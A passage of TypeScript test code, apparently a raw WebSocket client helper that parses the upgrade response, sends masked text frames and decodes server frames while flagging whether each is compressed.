    const end = raw.indexOf('\r\n\r\n');
    const [statusLine, ...lines] = raw.subarray(0, end).toString().split('\r\n');
    const headers = Object.fromEntries(lines.map((line) => [line.slice(0, line.indexOf(':')).toLowerCase(), line.slice(line.indexOf(':') + 1).trim()]));
    return new RawClient(socket, { status: Number(statusLine.split(' ')[1]), headers }, raw.subarray(end + 4));
  }

  /** The first frame not taken yet that matches; frames before it are dropped. */
  async nextFrame(predicate: (frame: RawFrame) => boolean = () => true): Promise<RawFrame> {
    for (;;) {
      const index = this.frames.findIndex(predicate);
      if (index >= 0) return this.frames.splice(0, index + 1)[index];
      await within(new Promise<void>((resolve) => this.wakers.add(resolve)), EVENT_TIMEOUT_MS, 'a server frame');
    }
  }

  /** One masked text frame, uncompressed (RSV1 clear), as a client may always send. */
  send(text: string): void {
    const payload = Buffer.from(text);
    const mask = randomBytes(4);
    const header = payload.length < 126 ? Buffer.from([0x81, 0x80 | payload.length]) : Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
    this.socket.write(Buffer.concat([header, mask, payload.map((byte, i) => byte ^ mask[i % 4])]));
  }

  close(): void {
    this.socket.destroy();
  }

  private receive(chunk: Buffer): void {
    this.buffer = Buffer.concat([this.buffer, chunk]);
    while (this.buffer.length >= 2) {
      let length = this.buffer[1] & 0x7f;
      let offset = 2;
      if (length === 126) {
        if (this.buffer.length < 4) return;
        length = this.buffer.readUInt16BE(2);
        offset = 4;
      }
      if (this.buffer.length < offset + length) return;
      const compressed = (this.buffer[0] & 0x40) !== 0;
      this.frames.push({ compressed, payloadBytes: length, text: compressed ? null : this.buffer.subarray(offset, offset + length).toString() });
      this.buffer = this.buffer.subarray(offset + length);
      this.wakers.forEach((wake) => wake());
      this.wakers.clear();
    }
  }
}
